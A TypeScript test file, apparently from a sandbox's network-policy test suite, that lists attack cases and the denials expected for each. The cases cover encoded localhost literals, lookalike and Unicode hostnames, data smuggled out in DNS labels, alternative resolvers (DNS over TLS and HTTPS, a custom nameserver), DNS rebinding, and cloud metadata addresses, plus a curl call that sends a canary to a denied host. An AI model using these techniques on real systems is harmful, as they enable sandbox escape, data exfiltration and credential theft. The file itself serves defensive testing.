/** D: destinations by other names, and names that carry something out. [req: escape:network] */
import { type Attack, describeAttacks } from './attack.ts';
import type { Expected } from './expected.ts';
import { allowed, asked, bare, denied, elsewhere, farOf, opens, python, settings, usual } from './far.ts';
import type { World } from './world.ts';

const curl = '/usr/bin/curl';
const dig = '/usr/bin/dig';
const resolve = (host: string, more: object = {}): Expected => ({
  kind: 'deny',
  action: 'resolve_name',
  destination: { host, ...more },
});
const refused = (call: string, times?: number): Expected => ({
  kind: 'refusal',
  call,
  ...(times === undefined ? {} : { times }),
});
/** A canary looks like the data that it is. */
const limited = ({ canary }: World): Expected => ({
  ...refused('name_limits'),
  destination: { host: `${canary.toLowerCase()}.${denied}`, protocol: 'dns' },
});
const fine = (world: World): string => {
  const port = farOf(world).outside.ports.http;
  return `attempt("fine", say, "${allowed}", ${port}, "GET /fine HTTP/1.0\\r\\nHost: ${allowed}:${port}\\r\\n\\r\\n")\n`;
};

/** Every way to write an address that leads back to this machine. */
const literals = [
  '127.0.0.1',
  '127.1',
  '2130706433',
  '0x7f000001',
  '017700000001',
  '0177.0.0.1',
  '0x7f.0x0.0x0.0x1',
  '127.0.0.1.',
  '127.0.0.66',
  '0.0.0.0',
  '0',
  '::ffff:127.0.0.1',
  '::ffff:7f00:1',
  '::ffff:0.0.0.0',
  '::127.0.0.1',
  '64:ff9b::7f00:1',
  '::1',
  '0:0:0:0:0:0:0:1',
  '::1%lo',
  '::',
  'localhost',
  'LOCALHOST.',
  'a.localhost',
];

const attacks: readonly Attack[] = [
  {
    ...bare,
    id: 'D2',
    title: 'address literals: decimal, octal, hexadecimal, mapped, NAT64, zones, unspecified',
    policy: 'outward',
    command: (world) =>
      python(`
for host in ${JSON.stringify(literals)}:
    attempt(host, say, host, ${farOf(world).never.port}, "${world.canary}", True)`),
    record: (world) =>
      ['127.0.0.1', elsewhere, '::1'].map((ip) => ({
        kind: 'deny',
        action: 'connect',
        destination: { ip, port: farOf(world).never.port },
      })),
  },
  {
    ...usual,
    id: 'D3',
    title: 'NUL and dots within labels of a name',
    won: asked,
    command: (world) =>
      python(`${fine(world)}
evil = b"${world.canary.toLowerCase()}"
for labels in ([evil + b"\\0", b"web", b"allowed", b"test"], [evil, b"test\\0.web.allowed.test"], [evil, b"denied", b"test\\0", b"web.allowed.test"], [b"web.allowed.test"], [b"web", b"allowed", b"test\\0" + evil]):
    attempt(labels, ask, labels)`),
    record: () => [refused('name_protocol')],
  },
  {
    ...usual,
    id: 'D4',
    title: 'names that look like the allowed one: suffixes, prefixes, other scripts',
    won: asked,
    command: (world) =>
      python(`${fine(world)}
for host in ("not${allowed}", "${allowed}.evil.test", "x.${allowed}", "web-allowed.test", "webxallowed.test", "allowed.test", "w\\u0435b.allowed.test", "xn--wb-5bc.allowed.test", "${allowed}%00.evil.test", "${allowed}\\\\.evil.test", "${allowed}@evil.test", "${allowed}:80.evil.test"):
    attempt(host, socket.getaddrinfo, host, 80)
attempt("utf-8", ask, ["w\\u0435b".encode(), b"allowed", b"test"])`),
    record: () => [resolve(`not${allowed}`), resolve(`${allowed}.evil.test`), resolve('allowed.test')],
  },
  {
    ...usual,
    id: 'D4',
    title: 'a denied name in other spellings: case, final dot, wide letters and dots',
    policy: 'others',
    data: settings({}, { denied: [denied] }),
    command: (world) =>
      python(`${fine(world)}
for host in ("${denied}", "${denied.toUpperCase()}", "${denied}.", "Web.Denied.Test.", "\\uff57eb.denied.test", "web\\u3002denied\\uff0etest", "web.denied.te\\u017ft", "web.denied.test"):
    attempt(host, say, host, ${farOf(world).never.port}, "${world.canary}")
attempt("raw", ask, [b"WEB", b"dENIED", b"TEST"])`),
    record: () => [resolve(denied)],
  },
  {
    ...usual,
    id: 'D5',
    title: 'data in labels of names, while requests are denied',
    won: asked,
    command: (world) =>
      python(`${fine(world)}
for below in ("${denied}", "${allowed}", "evil.test"):
    attempt(below, socket.getaddrinfo, "${world.canary}." + below, 80)
    attempt(below, socket.getaddrinfo, "payroll." + below, 80)
    for kind in (16, 10, 5, 15, 28, 33, 65, 255, 252, 65399):
        attempt(kind, ask, ["${world.canary}".encode(), *below.encode().split(b".")], kind)`),
    record: (world) => [
      resolve(`payroll.${denied}`, { protocol: 'dns' }),
      resolve(`payroll.${allowed}`),
      limited(world),
    ],
  },
  {
    ...usual,
    id: 'D5',
    title: 'data in labels below a name that is allowed with all below it',
    policy: 'below',
    data: settings({}, { below: '.allowed.test' }),
    won: (world) => {
      const carried = farOf(world).outside.asked.filter((name) => name !== allowed);
      return carried.length > 60 || carried.some((name) => name.length > 60);
    },
    command: (world) =>
      python(`${fine(world)}
import base64
for at in range(4):
    data = base64.b32encode(os.urandom(35)).decode().lower()
    attempt("label", socket.getaddrinfo, data + ".allowed.test", 80)
    attempt("labels", socket.getaddrinfo, ".".join(data[i:i+8] for i in range(0, 56, 8)) + ".allowed.test", 80)
for at in range(90):
    attempt("many", ask, [b"n%d" % at, b"allowed", b"test"])`),
    record: () => [refused('name_limits')],
  },
  {
    ...usual,
    id: 'D5',
    title: 'the same as the last act of a session, behind a refusal of another program',
    needs: [curl],
    won: asked,
    command: (world) => [
      '/bin/sh',
      '-c',
      `"$@"; ${curl} -s --max-time 5 http://${world.canary}.${denied}/`,
      'sh',
      ...python(`${fine(world)}attempt("decoy", socket.getaddrinfo, "${world.canary}.${denied}", 80)`),
    ],
    record: (world) => [{ ...limited(world), by: curl }],
  },
  {
    ...usual,
    id: 'D6',
    title: 'other resolvers: DNS over TCP, TLS, HTTPS, multicast, a nameserver of its own',
    won: asked,
    command: (world) => {
      const { datagrams, never } = farOf(world);
      return python(`${fine(world)}
name = ["${world.canary}".encode(), b"web", b"denied", b"test"]
q = question(name)
def tcp(host, port=53):
    return say(host, port, struct.pack(">H", len(q)) + q)
def out(host, port):
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
        s.sendto(q, (host, port))
attempt("over tcp", tcp, nameserver())
attempt("tcp elsewhere", tcp, "${elsewhere}", ${never.port})
attempt("over tls", tcp, nameserver(), 853)
for host, port in (("${elsewhere}", ${datagrams.port}), ("${elsewhere}", 53), ("224.0.0.251", 5353), ("224.0.0.252", 5355)):
    attempt("datagram", out, host, port)
attempt("local", socket.getaddrinfo, "${world.canary}.local", 80)
attempt("https", say, "${denied}", ${never.port}, "POST /dns-query HTTP/1.1\\r\\nHost: ${denied}\\r\\nContent-Length: 0\\r\\n\\r\\n")
attempt("resolver.arpa", ask, [b"_dns", b"resolver", b"arpa"], 64)`);
    },
    record: (world) => {
      const { datagrams, never } = farOf(world);
      const connect = (facts: object): Expected => ({ kind: 'deny', action: 'connect', destination: facts });
      return [
        limited(world),
        connect({ ip: elsewhere, port: never.port, protocol: 'tcp' }),
        connect({ ip: elsewhere, port: datagrams.port, protocol: 'udp' }),
        connect({ ip: '224.0.0.251', port: 5353, protocol: 'udp' }),
        resolve(denied),
      ];
    },
  },
  {
    ...bare,
    id: 'D6',
    title: 'dig at a nameserver of its own',
    needs: [dig],
    command: (world) => {
      const { port } = farOf(world).datagrams;
      return [dig, `@${elsewhere}`, '-p', String(port), '+tries=1', '+time=2', `${world.canary}.test`];
    },
    record: () => [{ kind: 'deny', action: 'connect', destination: { ip: elsewhere, protocol: 'udp' } }],
  },
  {
    ...usual,
    id: 'D9',
    title: 'allowed name that leads to this machine, at once or the second time',
    outside: opens({ answers: turning }),
    data: settings({}, { hosts: [allowed, 'inward.test', 'turns.test'] }, [allowed]),
    command: (world) => {
      const { port } = farOf(world).never;
      return python(`${fine(world)}
attempt("turns", socket.getaddrinfo, "turns.test", 80, socket.AF_INET)
for host in ("inward.test", "turns.test"):
    attempt(host, say, host, ${port}, "${world.canary}")
attempt("where it leads", say, "${elsewhere}", ${port}, "${world.canary}")`);
    },
    record: (world) => [
      { ...refused('rebinding'), destination: { host: 'inward.test', protocol: 'dns' } },
      {
        kind: 'deny',
        action: 'connect',
        destination: { ip: elsewhere, port: farOf(world).never.port },
        times: 1,
      },
    ],
  },
  {
    ...usual,
    id: 'D10',
    title: 'metadata services: addresses, their names, and a name that leads to them',
    outside: opens({ answers: () => ({ 'inward.test': '169.254.169.254' }) }),
    data: settings({}, { hosts: [allowed, 'inward.test'] }),
    won: (_, run) => / -> (?!failed).*169\.254/.test(run.output),
    command: (world) =>
      python(`${fine(world)}
for host in ("169.254.169.254", "2852039166", "0xa9fea9fe", "::ffff:169.254.169.254", "fd00:ec2::254", "fe80::a9fe:a9fe%lo", "100.100.100.200", "metadata.google.internal", "metadata"):
    attempt("to " + host, say, host, 80, "GET /${world.canary} HTTP/1.0\\r\\n\\r\\n")
attempt("leads to them", socket.getaddrinfo, "inward.test", 80)`),
    record: () => [
      { kind: 'deny', action: 'connect', destination: { ip: '169.254.169.254', port: 80 } },
      { kind: 'deny', action: 'connect', destination: { ip: '100.100.100.200', port: 80 } },
      resolve('metadata.google.internal'),
      { ...refused('rebinding'), destination: { host: 'inward.test', protocol: 'dns' } },
    ],
  },
];

/** Leads outward when it is first asked for, which is when it is checked. */
function turning(): Record<string, string> {
  let times = 0;
  return {
    'inward.test': elsewhere,
    get 'turns.test'() {
      times += 1;
      return times === 1 ? '8.8.8.8' : elsewhere;
    },
  };
}

describeAttacks('network-names', [], attacks);
